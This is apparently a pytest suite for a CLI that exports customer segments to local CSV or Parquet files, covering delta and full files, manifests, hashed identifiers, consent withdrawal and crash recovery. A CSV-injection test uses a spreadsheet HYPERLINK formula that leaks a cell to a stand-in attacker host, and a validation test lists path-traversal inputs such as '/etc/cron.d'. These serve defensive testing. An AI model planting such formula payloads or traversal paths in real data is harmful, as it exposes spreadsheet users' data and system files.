"""`goal: export_data` to the `files` destination, on a local folder, end to end through the
CLI: delta and full files written by DuckDB, their manifests, hashed or raw identifiers,
export.full, bad paths refused by validate, and a kill mid-export that the rerun converges."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from tests.conftest import WS, cli, plan_json, profile

FILES_YAML = """\
type: files
consent: email_consent
attributes:
  FIRST_NAME: first_name
  LTV: total_spend
config:
  location: out
  format: {format}
  pii: {pii}
  identifiers: [email, phone]
{extra}"""

EXPORT_ACT = """\
goal: export_data
segments: [seg-a]
destination: files
attributes: [FIRST_NAME, LTV]
export:
  path: vip/daily
  full: {full}
"""


def files_ws(
    workspace, profiles, *, full="weekly", fmt="csv", pii="hashed", extra="", act=None
) -> WS:
    ws = workspace({"vip-export": act or EXPORT_ACT.format(full=full)}, profiles=profiles)
    ws.write("integrations/files.yaml", FILES_YAML.format(format=fmt, pii=pii, extra=extra))
    return ws


def apply(ws: WS) -> None:
    res = cli(ws, "apply", "--auto-approve")
    assert res.exit_code == 0, res.output + res.stderr


def exported(ws: WS) -> list[Path]:
    """Every file under the export folder, hidden ones too, sorted by name."""
    folder = ws.root / "out" / "vip" / "daily"
    return sorted(folder.iterdir()) if folder.exists() else []


def rows(path: Path) -> list[dict]:
    con = duckdb.connect()
    try:
        reader = "read_parquet" if path.suffix == ".parquet" else "read_csv_auto"
        cur = con.execute(f"SELECT * FROM {reader}('{path}')")
        names = [d[0] for d in cur.description]
        return [dict(zip(names, r, strict=True)) for r in cur.fetchall()]
    finally:
        con.close()


def manifest_of(path: Path) -> dict:
    return json.loads(path.with_name(path.name + ".manifest.json").read_text())


def only(paths: list[Path], kind: str) -> Path:
    found = [
        p for p in paths if p.name.endswith(f"-{kind}.csv") or p.name.endswith(f"-{kind}.parquet")
    ]
    assert len(found) == 1, paths
    return found[0]


PEOPLE = [profile(i, a=True) for i in range(1, 6)] + [profile(6), profile(7, a=True, consent=False)]


def test_first_export_writes_delta_and_full_with_manifests(workspace):
    ws = files_ws(workspace, PEOPLE)
    assert cli(ws, "validate").exit_code == 0
    text = cli(ws, "plan").output
    assert "export to out/vip/daily/: delta file of 5 rows (+5)" in text
    assert "full file of 5 rows (export.full: weekly)" in text
    plan = plan_json(ws)["activations"][0]
    assert plan["export"]["delta_rows"] == 5 and plan["export"]["full"] is True

    apply(ws)
    files = exported(ws)
    assert len(files) == 4, files  # delta, full and a manifest beside each; no temporary file
    delta = only(files, "delta")
    got = rows(delta)
    assert [r["customer_id"] for r in got] == [f"c{i:05d}" for i in range(1, 6)]
    assert {r["change"] for r in got} == {"entered"}
    sha = hashlib.sha256(b"user1@example.com").hexdigest()
    assert got[0]["email_sha256"] == sha and got[0]["FIRST_NAME"] == "Name1"
    assert "user1@example.com" not in delta.read_text()  # hashed unless pii: raw
    m = manifest_of(delta)
    assert m["rows"] == 5 and m["activation"] == "vip-export" and m["kind"] == "delta"
    assert m["sha256"] == hashlib.sha256(delta.read_bytes()).hexdigest()
    assert m["columns"] == [
        "change",
        "customer_id",
        "email_sha256",
        "phone_sha256",
        "FIRST_NAME",
        "LTV",
    ]
    assert m["as_of"].startswith(plan_json(ws)["as_of"][:10])
    full = only(files, "full")
    assert [r["customer_id"] for r in rows(full)] == [f"c{i:05d}" for i in range(1, 6)]
    assert manifest_of(full)["rows"] == 5

    again = plan_json(ws)
    assert not any(a["change"] != "noop" for a in again["activations"])
    assert "No changes" in cli(ws, "plan").output


def test_next_run_writes_one_delta_of_entered_left_changed(workspace):
    ws = files_ws(workspace, PEOPLE)
    apply(ws)
    people = [dict(p) for p in PEOPLE]
    people[0]["seg_a"] = False  # c00001 leaves
    people[1]["first_name"] = "Renamed"  # c00002 changes a mapped attribute
    people[5]["seg_a"] = True  # c00006 enters
    ws.set_profiles(people)
    text = cli(ws, "plan").output
    assert "delta file of 3 rows (+1 -1 ~1)" in text
    assert "no full file this run (export.full: weekly)" in text
    apply(ws)
    deltas = sorted(p for p in exported(ws) if p.name.endswith("-delta.csv"))
    assert len(deltas) == 2
    got = {r["customer_id"]: (r["change"], r["FIRST_NAME"]) for r in rows(deltas[-1])}
    assert got == {  # a leaver is written as exported before: its key and recorded hashes
        "c00001": ("left", None),
        "c00002": ("changed", "Renamed"),
        "c00006": ("entered", "Name6"),
    }
    assert len([p for p in exported(ws) if p.name.endswith("-full.csv")]) == 1
    assert "No changes" in cli(ws, "plan").output
    run = cli(ws, "log", "vip-export", "--format", "json").json()["runs"][0]
    assert (run["added"], run["removed"], run["updated"]) == (1, 1, 1)
    assert [Path(f).name for f in run["audiences"][0]["files"]] == [deltas[-1].name]
    assert deltas[-1].name.endswith("-00002-delta.csv")


@pytest.mark.parametrize("full, expected", [("daily", 2), ("never", 0)])
def test_export_full_policy(workspace, full, expected):
    ws = files_ws(workspace, PEOPLE, full=full)
    apply(ws)
    people = [dict(p) for p in PEOPLE]
    people[5]["seg_a"] = True
    ws.set_profiles(people)
    apply(ws)
    fulls = [p for p in exported(ws) if p.name.endswith("-full.csv")]
    assert len(fulls) == expected
    if fulls:
        assert len(rows(sorted(fulls)[-1])) == 6


def test_parquet_with_raw_identifiers(workspace):
    ws = files_ws(workspace, PEOPLE, fmt="parquet", pii="raw", full="never")
    apply(ws)
    delta = only(exported(ws), "delta")
    got = rows(delta)
    assert got[0]["email"] == "user1@example.com" and "email_sha256" not in got[0]
    assert manifest_of(delta)["format"] == "parquet" and manifest_of(delta)["pii"] == "raw"
    # the state holds hashes only, never the raw values written to the file
    state = duckdb.connect(str(ws.root / ".reconcile" / "state.duckdb"), read_only=True)
    try:
        records = state.execute("SELECT record FROM members").fetchall()
    finally:
        state.close()
    assert records and all("@" not in r for rec in records for r in rec[0])


@pytest.mark.parametrize(
    "path, why",
    [
        ("../elsewhere", "outside the integration's location"),
        ("/etc/cron.d", "outside the integration's location"),
        ("s3://other-bucket/x", "outside the integration's location"),
        ("vip/../../up", "outside the integration's location"),
        (".hidden", "must not start with '.'"),
    ],
)
def test_export_path_outside_the_location_is_refused(workspace, path, why):
    act = EXPORT_ACT.format(full="weekly").replace("path: vip/daily", f'path: "{path}"')
    ws = files_ws(workspace, PEOPLE, act=act)
    res = cli(ws, "validate")
    assert res.exit_code == 1
    assert "activations/vip-export.yaml:6" in res.stderr and "export.path" in res.stderr
    assert why in res.stderr
    assert cli(ws, "apply", "--auto-approve").exit_code == 1
    assert not (ws.root / "out").exists() and not (ws.root / "elsewhere").exists()


@pytest.mark.parametrize(
    "text, where, why",
    [
        (
            EXPORT_ACT.format(full="weekly").replace("destination: files", "destination: sandbox"),
            "vip-export.yaml:1",
            "does not; use an integration of a type that does (`type: files`)",
        ),
        (
            "segments: [seg-a]\ndestination: files\n",
            "vip-export.yaml:1",
            "writes export files: use `goal: export_data`",
        ),
        (
            "segments: [seg-a]\ndestination: sandbox\nexport: {full: daily}\n",
            "vip-export.yaml:3",
            "`export` is only for `goal: export_data`",
        ),
        (
            EXPORT_ACT.format(full="monthly"),
            "vip-export.yaml:7",
            "'daily', 'weekly' or 'never'",
        ),
    ],
)
def test_export_activation_mistakes(workspace, text, where, why):
    ws = files_ws(workspace, PEOPLE, act=text)
    res = cli(ws, "validate")
    assert res.exit_code == 1, res.output
    assert where in res.stderr and why in res.stderr, res.stderr


@pytest.mark.parametrize(
    "location, why",
    [("ftp://host/x", "unsupported URL scheme 'ftp'"), ("s3://", "names no bucket")],
)
def test_bad_location_is_refused(workspace, location, why):
    ws = files_ws(workspace, PEOPLE)
    text = (ws.root / "integrations/files.yaml").read_text()
    ws.write("integrations/files.yaml", text.replace("location: out", f'location: "{location}"'))
    res = cli(ws, "validate")
    assert res.exit_code == 1
    assert "integrations/files.yaml:7" in res.stderr and why in res.stderr, res.stderr


def reconcile(ws: WS, *args: str) -> subprocess.CompletedProcess:
    script = Path(sys.executable).parent / "reconcile"
    cmd = [str(script)] if script.exists() else [sys.executable, "-m", "reconciler"]
    env = {k: v for k, v in os.environ.items() if not k.startswith("RECONCILE_")}
    return subprocess.run(
        [*cmd, "-C", str(ws.root), "--no-color", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


@pytest.mark.slow
@pytest.mark.parametrize("point", ["copied", "published"])
def test_kill_mid_export_leaves_no_half_file_and_the_rerun_converges(workspace, point):
    ws = files_ws(workspace, PEOPLE, full="never", extra=f"  exit_at: {point}\n")
    killed = reconcile(ws, "apply", "--auto-approve")
    assert killed.returncode == 137, killed.stdout + killed.stderr
    finals = [p for p in exported(ws) if not p.name.startswith(".")]
    if point == "copied":  # the data sits under a temporary name only
        assert finals == []
        assert [p for p in exported(ws) if p.name.startswith(".")]
    else:  # published whole, but its manifest (which makes it visible) is not written
        assert len(finals) == 1 and not finals[0].name.endswith(".manifest.json")
        assert len(rows(finals[0])) == 5
    # nothing was recorded: the plan still shows the export, and says it resumes one
    text = cli(ws, "plan").output
    assert "delta file of 5 rows" in text and "an interrupted export" in text

    ws.write("integrations/files.yaml", FILES_YAML.format(format="csv", pii="hashed", extra=""))
    rerun = reconcile(ws, "apply", "--auto-approve")
    assert rerun.returncode == 0, rerun.stdout + rerun.stderr
    files = exported(ws)
    assert not [p for p in files if p.name.startswith(".")]  # temporary files cleaned up
    delta = only(files, "delta")
    assert len(files) == 2  # one delta (the same name as the killed run's) and its manifest
    if point == "published":
        assert delta.name == finals[0].name
    assert manifest_of(delta)["rows"] == 5 == len(rows(delta))
    assert "No changes" in cli(ws, "plan").output


def test_each_due_run_writes_one_delta_even_when_nothing_changed(workspace):
    ws = files_ws(workspace, PEOPLE, full="never")
    config = (ws.root / "reconcile.yaml").read_text()
    # the source says it refreshed just now: every `apply --due` finds the export due
    ws.write(
        "reconcile.yaml",
        config.replace("  type: duckdb\n", "  type: duckdb\n  freshness_sql: SELECT now()\n"),
    )
    res = cli(ws, "apply", "--due", "--auto-approve")
    assert res.exit_code == 0, res.output + res.stderr
    # nothing changed, yet the due run writes a file: the plan says so, not "No changes"
    planned = cli(ws, "plan", "--due", "--detailed-exitcode")
    assert planned.exit_code == 2, planned.output + planned.stderr
    assert "the export is due: its delta file is written (0 rows)" in planned.output
    res = cli(ws, "apply", "--due", "--auto-approve")
    assert res.exit_code == 0, res.output + res.stderr
    deltas = sorted(p for p in exported(ws) if p.name.endswith("-delta.csv"))
    assert [len(rows(p)) for p in deltas] == [5, 0]
    assert manifest_of(deltas[1])["rows"] == 0
    assert deltas[1].read_text().startswith("change,customer_id,")  # a header, no rows


def test_a_saved_plan_exports_exactly_what_it_showed(workspace):
    ws = files_ws(workspace, PEOPLE, full="never")
    planfile = ws.root / "export.plan"
    assert cli(ws, "plan", "--out", str(planfile)).exit_code == 0
    people = [dict(p) for p in PEOPLE]
    people[5]["seg_a"] = True  # enters after the plan: not in this apply
    ws.set_profiles(people)
    res = cli(ws, "apply", str(planfile), "--auto-approve")
    assert res.exit_code == 0, res.output + res.stderr
    delta = only(exported(ws), "delta")
    assert [r["customer_id"] for r in rows(delta)] == [f"c{i:05d}" for i in range(1, 6)]
    assert "delta file of 1 row (+1)" in cli(ws, "plan").output


@pytest.mark.parametrize("escape", [False, True], ids=["as-is", "escaped"])
def test_formulas_in_csv_cells_are_escaped_only_when_asked(workspace, escape):
    """CSV injection: a cell a spreadsheet would run as a formula gets a leading ' with
    `escape_formulas: true`; numbers (a negative one too) and other text stay as they are."""
    people = [
        profile(1, a=True, name='=HYPERLINK("http://evil.example/?"&A1,"click")'),
        profile(2, a=True, name="@SUM(1+1)", spend=-5.0),
        profile(3, a=True, name="Ann"),
        profile(4, a=True, name="-5.25"),  # a number held as text (PostgreSQL's numeric)
        profile(5, a=True, name="-1+2"),  # not a plain number: a spreadsheet computes it
    ]
    people[2]["customer_id"] = "-c00003"  # a key is what joins: never changed
    extra = "  escape_formulas: true\n" if escape else ""
    ws = files_ws(workspace, people, extra=extra)
    apply(ws)
    text = only(exported(ws), "full").read_text()
    names = {r["FIRST_NAME"] for r in rows(only(exported(ws), "full"))}
    if escape:
        assert names == {
            '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
            "'@SUM(1+1)",
            "Ann",
            "-5.25",
            "'-1+2",
        }
    else:
        assert names == {
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "@SUM(1+1)",
            "Ann",
            "-5.25",
            "-1+2",
        }
    assert ",-5.0" in text  # a number is never escaped
    assert "-c00003" in {r["customer_id"] for r in rows(only(exported(ws), "full"))}


@pytest.mark.parametrize("pii", ["hashed", "raw"])
def test_a_leaver_who_withdrew_consent_is_not_written_again(workspace, pii):
    """A profile leaving (here: it withdrew its consent and moved address) is written with its
    key and the hashes exported for it before, never its current values: no new address, no
    attributes, and with `pii: raw` no raw value at all."""
    ws = files_ws(workspace, PEOPLE, pii=pii, full="never")
    apply(ws)
    people = [dict(p) for p in PEOPLE]
    people[0] |= {"email_consent": False, "email": "new-address@example.com"}  # c00001
    ws.set_profiles(people)
    apply(ws)
    deltas = sorted(p for p in exported(ws) if p.name.endswith("-delta.csv"))
    (left,) = [r for r in rows(deltas[-1]) if r["change"] == "left"]
    assert left["customer_id"] == "c00001" and left["FIRST_NAME"] is None
    assert left["LTV"] is None
    text = deltas[-1].read_text()
    assert "new-address" not in text and "user1@example.com" not in text
    assert hashlib.sha256(b"new-address@example.com").hexdigest() not in text
    if pii == "hashed":  # what was exported for it before: it can be matched downstream
        assert left["email_sha256"] == hashlib.sha256(b"user1@example.com").hexdigest()
    else:
        assert left["email"] is None


def test_a_saved_plan_exports_nobody_who_withdrew_consent_meanwhile(workspace, tmp_path):
    """As for member sends: a plan kept for a while does not write a profile that withdrew its
    consent after it was made (with `pii: raw`, its address); the run says so."""
    ws = files_ws(workspace, PEOPLE, pii="raw", full="daily")
    out = tmp_path / "export.plan"
    assert cli(ws, "plan", "--out", str(out)).exit_code == 0
    people = [dict(p) for p in PEOPLE]
    people[1]["email_consent"] = False  # c00002 withdraws after the plan
    ws.set_profiles(people)
    res = cli(ws, "apply", str(out), "--auto-approve")
    assert res.exit_code == 0, res.stderr + res.output
    assert "vip-export: 1 member change(s) of the saved plan no longer hold" in res.stderr
    for kind in ("delta", "full"):
        written = {r["customer_id"] for r in rows(only(exported(ws), kind))}
        assert "c00002" not in written and "c00001" in written, (kind, written)
    assert "user2@example.com" not in "".join(p.read_text() for p in exported(ws))


@pytest.mark.parametrize("edit", ["location", "path", "format"])
def test_a_moved_export_starts_a_new_series_with_a_full_file(workspace, edit):
    """Whoever reads the new place (or the new format) holds none of the earlier files: the
    plan says so and the next apply writes a full file there, whatever `export.full` says."""
    ws = files_ws(workspace, PEOPLE, full="never")
    apply(ws)
    assert "No changes" in cli(ws, "plan").output
    folder = ws.root / "out" / "vip" / "daily"
    if edit == "location":
        ws.write(
            "integrations/files.yaml",
            FILES_YAML.format(format="csv", pii="hashed", extra="").replace(
                "location: out", "location: moved"
            ),
        )
        folder, why = ws.root / "moved" / "vip" / "daily", "the export moved from out/vip/daily/"
    elif edit == "path":
        ws.write(
            "activations/vip-export.yaml",
            EXPORT_ACT.format(full="never").replace("path: vip/daily", "path: vip/weekly"),
        )
        folder, why = ws.root / "out" / "vip" / "weekly", "the export moved from out/vip/daily/"
    else:
        ws.write(
            "integrations/files.yaml", FILES_YAML.format(format="parquet", pii="hashed", extra="")
        )
        why = "the export's format changed from csv to parquet"
    planned = cli(ws, "plan", "--detailed-exitcode")
    assert planned.exit_code == 2, planned.output + planned.stderr
    assert f"{why}: a full file is written with the delta" in planned.output
    assert "full file of 5 rows (export.full: never)" in planned.output
    apply(ws)
    ext = "parquet" if edit == "format" else "csv"
    fulls = sorted(folder.glob(f"*-full.{ext}"))
    assert len(fulls) == 1, sorted(folder.iterdir())
    assert sorted(r["customer_id"] for r in rows(fulls[0])) == [f"c{i:05d}" for i in range(1, 6)]
    assert "No changes" in cli(ws, "plan").output  # one full file: the series goes on from it


@pytest.mark.parametrize(
    ("field", "clash"),
    [
        ("change", "named 'change'"),
        ("Change", "'change', differing only in case, as 'Change'"),
        ("Customer_Id", "'customer_id', differing only in case, as 'Customer_Id'"),
        ("EMAIL_SHA256", "'email_sha256', differing only in case, as 'EMAIL_SHA256'"),
    ],
)
def test_an_attribute_named_like_a_column_of_the_export_is_refused_by_plan(workspace, field, clash):
    """DuckDB's column names are case-insensitive: an attribute `Change` became `Change_1`
    and held the change, not the attribute; the exact name failed only at apply."""
    ws = files_ws(
        workspace,
        PEOPLE,
        act=EXPORT_ACT.format(full="daily").replace("[FIRST_NAME, LTV]", f"[FIRST_NAME, {field}]"),
    )
    ws.write(
        "integrations/files.yaml",
        FILES_YAML.format(format="csv", pii="hashed", extra="").replace(
            "  LTV: total_spend", f"  {field}: total_spend"
        ),
    )
    for command in ("plan", "apply"):
        res = cli(ws, command, *(["--auto-approve"] if command == "apply" else []))
        assert res.exit_code == 1, res.output + res.stderr
        assert (
            f"integrations/files.yaml:3: attributes: the export would have two columns {clash}"
            in res.stderr
        ), res.stderr
    assert exported(ws) == []


def test_the_full_file_holds_what_was_exported(workspace, tmp_path):
    """The full file is the audience as exported: a member whose key is now on two profile
    rows (held: neither removed nor updated) is still in it, and values that were not exported
    — a paused activation, a change a saved plan left out because the profile withdrew its
    consent — are not written in it: such a member has its key and recorded hashes only."""
    ws = files_ws(workspace, PEOPLE, full="daily")
    apply(ws)
    people = [dict(p) for p in PEOPLE]
    people.append(dict(people[1], first_name="Twin"))  # c00002 now on two rows: held
    people[0]["first_name"] = "Ann NEW"  # c00001 changes while paused
    ws.set_profiles(people)
    ws.write("activations/vip-export.yaml", EXPORT_ACT.format(full="daily") + "paused: true\n")
    apply(ws)
    full = rows(sorted(p for p in exported(ws) if p.name.endswith("-full.csv"))[-1])
    got = {r["customer_id"]: r for r in full}
    assert sorted(got) == [f"c{i:05d}" for i in range(1, 6)]  # held c00002 included
    assert got["c00001"]["FIRST_NAME"] is None  # not "Ann NEW": never exported
    assert got["c00001"]["email_sha256"] == hashlib.sha256(b"user1@example.com").hexdigest()
    assert got["c00002"]["FIRST_NAME"] is None and "Twin" not in str(full)
    assert got["c00003"]["FIRST_NAME"] == "Name3"  # unchanged: its current values

    # a saved plan whose change no longer holds at apply (consent withdrawn meanwhile)
    ws.write("activations/vip-export.yaml", EXPORT_ACT.format(full="daily"))
    people = [dict(p) for p in PEOPLE]
    people[2]["first_name"] = "Cleo NEW"  # c00003 changes ...
    ws.set_profiles(people)
    out = tmp_path / "export.plan"
    assert cli(ws, "plan", "--out", str(out)).exit_code == 0
    people[2]["email_consent"] = False  # ... then withdraws before the apply
    ws.set_profiles(people)
    res = cli(ws, "apply", str(out), "--auto-approve")
    assert res.exit_code == 0, res.output + res.stderr
    full = rows(sorted(p for p in exported(ws) if p.name.endswith("-full.csv"))[-1])
    assert "Cleo NEW" not in str(full)


def test_identifier_types_the_source_does_not_declare_are_warned_about(workspace):
    """`identifiers: [email, madid]` with no `madid` column in the profiles table: the export
    has no column for it, silently; the plan now says so."""
    ws = files_ws(workspace, PEOPLE)
    ws.write(
        "integrations/files.yaml",
        FILES_YAML.format(format="csv", pii="hashed", extra="").replace(
            "identifiers: [email, phone]", "identifiers: [email, madid]"
        ),
    )
    text = cli(ws, "plan").output
    assert "config.identifiers lists 'madid', which the profiles table does not declare" in text
    ws.write("integrations/files.yaml", FILES_YAML.format(format="csv", pii="hashed", extra=""))
    assert "does not declare" not in cli(ws, "plan").output


def test_parquet_keeps_every_digit_of_a_128_bit_integer(workspace):
    """Parquet has no 128-bit integer: DuckDB wrote HUGEINT as DOUBLE and rounded it."""
    people = [dict(p) for p in PEOPLE]
    ws = files_ws(workspace, people, fmt="parquet")
    ws.alter_profiles("ALTER TABLE profiles ALTER total_spend TYPE HUGEINT USING 9007199254740993")
    apply(ws)
    got = {r["LTV"] for r in rows(only(exported(ws), "full"))}
    assert got == {"9007199254740993"}, got


@pytest.mark.slow
def test_an_interrupted_export_resumed_in_another_format_warns_of_what_it_left(workspace):
    """Killed after publishing its delta, then resumed as Parquet: the rerun cannot replace
    the CSV the dead run published under the same number; the plan says so."""
    ws = files_ws(workspace, PEOPLE, full="never", extra="  exit_at: published\n")
    killed = reconcile(ws, "apply", "--auto-approve")
    assert killed.returncode == 137, killed.stdout + killed.stderr
    ws.write("integrations/files.yaml", FILES_YAML.format(format="parquet", pii="hashed", extra=""))
    text = cli(ws, "plan").output
    assert "the interrupted export was written elsewhere or in another format" in text, text
    assert "out/vip/daily/" in text and "(csv)" in text
    ws.write("integrations/files.yaml", FILES_YAML.format(format="csv", pii="hashed", extra=""))
    assert "written elsewhere" not in cli(ws, "plan").output  # same place and format: replaced


def test_import_of_an_export_activation_says_it_has_no_audience(workspace):
    """It said the destination had no audience named after the activation."""
    ws = files_ws(workspace, [profile(i, a=True) for i in range(3)])
    res = cli(ws, "import", "vip-export")
    assert res.exit_code == 1
    assert "exports files (`goal: export_data`): it has no audience" in res.stderr, res.stderr


def test_formulas_in_enum_and_blob_cells_are_escaped_too(workspace):
    """An ENUM (a tier, a status) and a BLOB are written as text: escaped like VARCHAR."""
    people = [profile(1, a=True, name="=1+2"), profile(2, a=True, name="Ann")]
    ws = files_ws(workspace, people, extra="  escape_formulas: true\n")
    ws.alter_profiles(
        "ALTER TABLE profiles ALTER first_name SET DATA TYPE ENUM('=1+2', 'Ann')",
    )
    apply(ws)
    assert {r["FIRST_NAME"] for r in rows(only(exported(ws), "full"))} == {"'=1+2", "Ann"}
    ws.alter_profiles("ALTER TABLE profiles ALTER first_name SET DATA TYPE BLOB")
    ws.alter_profiles("UPDATE profiles SET first_name = '@x'::BLOB WHERE first_name = 'Ann'::BLOB")
    apply(ws)
    latest = sorted(p for p in exported(ws) if p.name.endswith("-delta.csv"))[-1]
    assert "'@x" in {r["FIRST_NAME"] for r in rows(latest)}, latest.read_text()
